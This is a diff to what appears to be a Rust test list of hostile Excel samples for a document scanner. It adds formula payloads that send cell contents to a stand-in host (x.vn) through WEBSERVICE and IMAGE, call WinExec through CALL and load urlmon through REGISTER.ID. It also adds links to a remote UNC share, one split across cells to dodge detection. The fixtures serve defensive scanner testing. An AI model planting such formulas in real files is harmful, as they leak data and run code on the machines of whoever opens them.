@@ -216,6 +216,32 @@ pub fn all() -> Vec<Hostile> {
             Cause::DdeField,
         ),
         held("WEBSERVICE", Xlsx, with_formula("WEBSERVICE(&quot;http://x.vn/&quot;&amp;A1)"), Cause::LoadsFromElsewhere),
+        held("RTD", Xlsx, with_formula("RTD(&quot;x.server&quot;,,&quot;a&quot;)"), Cause::DdeField),
+        held("a library called by a formula", Xlsx, with_formula("CALL(&quot;Kernel32&quot;,&quot;WinExec&quot;)"), Cause::DdeField),
+        held("REGISTER", Xlsx, with_formula("REGISTER.ID(&quot;urlmon&quot;,&quot;a&quot;)"), Cause::DdeField),
+        held(
+            "a picture that takes cells along",
+            Xlsx,
+            with_formula("_xlfn.IMAGE(&quot;https://x.vn/?&quot;&amp;A1)"),
+            Cause::LoadsFromElsewhere,
+        ),
+        odd("a picture by a formula", Xlsx, with_formula("_xlfn.IMAGE(&quot;https://x.vn/a.png&quot;)"), Oddity::LoadsFromWeb),
+        held(
+            "an address in pieces",
+            Xlsx,
+            with_formula("HYPERLINK(&quot;\\\\&quot;&amp;&quot;10.0.0.9\\a&quot;,&quot;Xem&quot;)"),
+            Cause::ProgramLink,
+        ),
+        held(
+            "an address in a cell",
+            Xlsx,
+            Office::excel(
+                r#"<row r="1"><c r="A1"><f>HYPERLINK(B1)</f></c><c r="B1" t="inlineStr"><is><r><t>\\10.0</t></r><r><t>.0.9\a</t></r></is></c></row>"#,
+            )
+            .bytes(),
+            Cause::ProgramLink,
+        ),
+        held("a place on another machine", Xlsx, with_formula("SUM('\\\\10.0.0.9\\a\\[b.xlsx]S'!A1)"), Cause::LoadsFromElsewhere),
         held(
             "data that refresh on opening",
             Xlsx,
